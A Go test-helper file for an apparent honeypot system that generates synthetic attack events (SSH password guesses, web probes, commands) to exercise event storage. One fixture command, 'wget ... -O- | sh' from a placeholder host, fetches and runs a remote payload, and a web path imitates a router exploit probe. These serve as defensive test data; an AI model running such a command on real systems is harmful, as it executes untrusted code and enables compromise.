package storetest

import (
	"encoding/base64"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"strconv"
	"time"

	"github.com/decnet/decnet/pkg/decnet"
)

// Traffic returns n events of a fleet under attack, in order: sessions of 200
// addresses against 50 deckies, most of them guessing SSH passwords, some
// running commands or asking for web pages. The same seed gives the same events;
// different seeds give different ids.
func Traffic(seed uint64, n int) []decnet.Event {
	g := generator{
		rng:  rand.New(rand.NewPCG(seed, 1)),
		seed: seed, pause: 5 * time.Millisecond,
		time: time.Date(2031, 5, 6, 7, 8, 9, 123456789, time.UTC),
	}
	events := make([]decnet.Event, 0, n+16)
	for len(events) < n {
		events = append(events, g.session()...)
	}
	return events[:n]
}

// Recent is Traffic that ends about now, so that PostgreSQL keeps it in its
// ordinary partitions.
func Recent(seed uint64, n int) []decnet.Event {
	events := Traffic(seed, n)
	late := time.Now().UTC().Sub(events[len(events)-1].Time)
	for i := range events {
		events[i].Time = events[i].Time.Add(late)
	}
	return events
}

// Months calls put with n events, 5000 at a time, spread over the 60 days that
// end now: sessions as in Traffic, of 20,000 addresses of which few do most.
func Months(seed uint64, n int, put func([]decnet.Event) error) error {
	const length, size = 60 * 24 * time.Hour, 5000
	g := generator{
		rng:  rand.New(rand.NewPCG(seed, 2)),
		seed: seed, many: true, pause: 2 * length / time.Duration(n), // on average the half of it
		time: time.Now().UTC().Add(-length),
	}
	var events []decnet.Event
	for left := n; left > 0; {
		for len(events) < min(size, left) {
			events = append(events, g.session()...)
		}
		batch := events[:min(size, left)]
		if err := put(batch); err != nil {
			return err
		}
		left -= len(batch)
		events = append([]decnet.Event(nil), events[len(batch):]...)
	}
	return nil
}

type generator struct {
	many  bool          // attackers
	pause time.Duration // between events, at most
	rng   *rand.Rand
	seed  uint64
	time  time.Time
	made  int64
}

func (g *generator) session() []decnet.Event {
	service, second := "ssh", []string{decnet.KindAuthAttempt}
	switch g.rng.IntN(10) {
	case 0:
		service, second = "http", []string{decnet.KindRequest}
	case 1:
		second = []string{decnet.KindAuthAttempt, decnet.KindCommand}
	}
	source := netip.AddrFrom4([4]byte{203, 0, 113, byte(g.rng.IntN(200))}) //nolint:gosec // below 200
	if g.many {
		at := g.rng.Float64()
		which := int(20_000 * at * at * at)
		source = netip.AddrFrom4([4]byte{198, 18, byte(which >> 8), byte(which)}) //nolint:gosec // the two lower bytes
	}
	base := decnet.Event{
		Host: "sensor-1", Decky: fmt.Sprintf("decky-%02d", g.rng.IntN(50)), Service: service,
		Attacker: decnet.AttackerIDOf(source), Source: source,
		SourcePort: uint16(32768 + g.rng.IntN(28000)), //nolint:gosec // below 65536
		Session:    fmt.Sprintf("%016x", g.rng.Uint64()),
	}
	events := []decnet.Event{g.event(base, decnet.KindConnect, nil)}
	for _, kind := range second {
		for range 1 + g.rng.IntN(4) {
			events = append(events, g.event(base, kind, g.fields(kind)))
		}
	}
	return append(events, g.event(base, decnet.KindDisconnect, map[string]string{
		decnet.FieldDuration: strconv.Itoa(g.rng.IntN(5000)),
		decnet.FieldBytesIn:  strconv.Itoa(g.rng.IntN(9000)), decnet.FieldBytesOut: strconv.Itoa(g.rng.IntN(9000)),
	}))
}

func (g *generator) event(e decnet.Event, kind string, fields map[string]string) decnet.Event {
	g.made++
	g.time = g.time.Add(time.Duration(g.rng.Int64N(int64(g.pause))) + 1)
	e.ID = decnet.EventID(e.Host, "spool-"+strconv.FormatUint(g.seed, 10), g.made)
	e.Time, e.Kind, e.Fields = g.time, kind, fields
	return e
}

func (g *generator) fields(kind string) map[string]string {
	switch kind {
	case decnet.KindAuthAttempt:
		return Login([]string{"root", "admin", "pi", "oracle"}[g.rng.IntN(4)], "pass"+strconv.Itoa(g.rng.IntN(500)), false)
	case decnet.KindCommand:
		return map[string]string{decnet.FieldCommand: "cd /tmp && wget http://198.51.100.7/" + strconv.Itoa(g.rng.IntN(99)) + "/x86 -O- | sh"}
	default:
		return map[string]string{
			"method": "GET", "path": "/cgi-bin/luci/;stok=/locale?form=" + strconv.Itoa(g.rng.IntN(99)),
			"user_agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
		}
	}
}

// Login returns the fields of an event that carries a password.
func Login(principal, password string, accepted bool) map[string]string {
	return map[string]string{
		decnet.FieldPrincipal: principal, decnet.FieldSecret: password,
		decnet.FieldSecretB64:  base64.StdEncoding.EncodeToString([]byte(password)),
		decnet.FieldSecretKind: string(decnet.SecretPlaintext),
		decnet.FieldAccepted:   strconv.FormatBool(accepted),
	}
}

// at is when the small tests play.
var at = time.Date(2031, 5, 6, 7, 8, 9, 987654321, time.UTC)

// event returns the nth event of a small test, caused by address.
func event(n int, address string, change ...func(*decnet.Event)) decnet.Event {
	e := decnet.Event{
		ID: decnet.EventID("h", "spool", int64(n)), Time: at.Add(time.Duration(n)),
		Host: "h", Decky: "web-1", Service: "ssh", Kind: decnet.KindConnect,
	}
	if address != "" {
		e.Source = netip.MustParseAddr(address)
		e.Attacker = decnet.AttackerIDOf(e.Source)
		e.SourcePort = 40000
		e.Session = "s-" + address
	}
	for _, c := range change {
		c(&e)
	}
	return e
}

// events returns events from to to-1 of a small test, caused by address.
func events(from, to int, address string) []decnet.Event {
	var out []decnet.Event
	for n := from; n < to; n++ {
		out = append(out, event(n, address))
	}
	return out
}

func login(principal, password string, accepted bool) func(*decnet.Event) {
	return func(e *decnet.Event) {
		e.Kind, e.Fields = decnet.KindAuthAttempt, Login(principal, password, accepted)
	}
}

func idOf(address string) decnet.AttackerID {
	return decnet.AttackerIDOf(netip.MustParseAddr(address))
}
